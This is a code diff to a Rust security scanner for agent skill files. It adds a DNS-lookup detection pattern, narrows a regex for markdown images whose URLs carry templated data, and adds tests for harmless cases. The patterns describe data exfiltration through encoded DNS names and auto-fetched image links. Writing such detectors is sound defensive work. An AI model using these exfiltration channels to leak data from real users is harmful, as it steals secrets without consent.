@@ -173,13 +173,26 @@ static ENCODED_LABEL: LazyLock<Pattern> = LazyLock::new(|| {
     .expect("a valid encoded-label pattern")
 });
 
+/// A name looked up in DNS: the tools and calls that resolve one.
+static DNS_LOOKUP: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(
+        r#"(?i)(?-u:\b)(?:dig|nslookup|drill|kdig|resolvectl|getent|gethostbyname|gethostbyname_ex|getaddrinfo|resolve-dnsname|dns\.resolve[[:word:]]*|dns\.lookup|resolver\.(?:resolve|query)|ping)(?-u:\b)|(?:^|[[:space:];&|(])host[[:space:]]+["$]"#,
+    )
+    .expect("a valid lookup pattern")
+});
+
 fn check_encoded_names(text: &Text, out: &mut Vec<Finding>) {
     if !text.triggered(family::OBFUSCATION) {
         return;
     }
+    let mut looks_up = None;
     for m in text.find_on_lines(family::OBFUSCATION, &ENCODED_LABEL) {
         if text.is_markdown() && !text.in_code(&m) {
             continue;
+        }
+        // A file name made of a digest (`f"{h.hexdigest()}.json"`) is looked up by nobody.
+        if !*looks_up.get_or_insert_with(|| DNS_LOOKUP.is_match(text.text)) {
+            return;
         }
         let line = text.line_at(m.start);
         out.push(text.finding(
@@ -339,12 +352,10 @@ static PROSE_VERBS: LazyLock<Pattern> = LazyLock::new(|| {
 /// `![x](https://h.example/p.png?d={data})`): the client that shows the reply fetches it at
 /// once, with whatever the agent put in it.
 static TEMPLATE_IMAGE: LazyLock<Pattern> = LazyLock::new(|| {
+    // In angle brackets, words without `/` or `.` (`<the URL from step 3>`); CommonMark's
+    // `<assets/a b.png>` is a path.
     Pattern::new(
-        r"!\[[^\]
-]*\]\([[:space:]]*(?:<[^>
-]*>|[^)[:space:]]*(?:<[^>
-]+>|\{[^}
-]+\}|\$\{?[A-Za-z_])[^)[:space:]]*)[[:space:]]*\)",
+        r"!\[[^\]\n]*\]\([[:space:]]*(?:<[^>/.\n]*>|[^)[:space:]]*(?:<[^>/.\n]+>|\{[^}\n]+\}|\$\{?[A-Za-z_])[^)[:space:]]*)[[:space:]]*\)",
     )
     .expect("a valid image pattern")
 });
@@ -458,6 +469,7 @@ pub(super) fn compile() {
         &ENV_DUMP,
         &FILE_UPLOAD,
         &ENCODED_LABEL,
+        &DNS_LOOKUP,
         &TEMPLATE_IMAGE,
         &SEND_VERB,
         &SENT_VERB,
@@ -503,6 +515,8 @@ mod tests {
             )
             .is_empty()
         );
+        let path = "## Usage\n\nSet your API token in .env.\n\n![dash](<assets/dash board.png>)\n";
+        assert!(codes("SKILL.md", path).is_empty());
     }
 
     #[test]
@@ -513,6 +527,8 @@ mod tests {
         assert_eq!(codes("a.py", py), ["SK908"]);
         assert!(codes("a.sh", "echo \"$(date +%s | xxd -p)\"\n").is_empty());
         assert!(codes("a.sh", "dig +short example.com\n").is_empty());
+        let cache = "path = f\"{h.digest().hex()}.json\"\nopen(path).write(data)\n";
+        assert!(codes("a.py", cache).is_empty());
     }
 
     #[test]
